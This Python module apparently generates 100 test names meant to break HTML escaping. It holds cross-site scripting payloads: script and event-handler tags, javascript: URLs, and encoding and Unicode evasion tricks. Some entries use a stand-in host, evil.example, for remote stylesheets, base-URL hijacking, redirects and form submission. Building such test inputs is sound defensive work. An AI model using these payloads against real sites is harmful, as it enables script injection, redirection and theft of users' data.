"""A hundred names that try to become markup, script or style."""

from __future__ import annotations

import itertools

_TAGS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=javascript:alert(1)>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)>",
    "<style>*{display:none}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<form action=//evil.example><input type=submit>",
    "<object data=javascript:alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<!--<script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<plaintext>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
)
_ENDINGS = (
    "",
    "</td></tr></table>",
    "</summary></details>",
    "</script>",
    "</style>",
    "</title>",
    "'>",
    '">',
    "-->",
    "` onfocus=alert(1) autofocus x=`",
)
_ATTRIBUTES = (
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '" style="position:fixed;inset:0',
    '" autofocus onfocus="alert(1)" x="',
    '" data-key="1" id="filter',
    "javascript:alert(1)",
    "\x00<script>alert(1)</script>",
    "\u2028<script>alert(1)</script>",
    "\u202e<script>alert(1)</script>",
    "\ufeff<script>alert(1)</script>",
    "<scr\x00ipt>alert(1)</script>",
    "\udc3cscript\udc3ealert(1)",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\x3cscript\\x3ealert(1)",
    "\\u003cscript\\u003ealert(1)",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "]]><script>alert(1)</script>",
)
_COMBINED = [ending + tag for tag, ending in itertools.product(_TAGS, _ENDINGS)]
PAYLOADS = [*_ATTRIBUTES, *_COMBINED[:: len(_COMBINED) // 80]][:100]
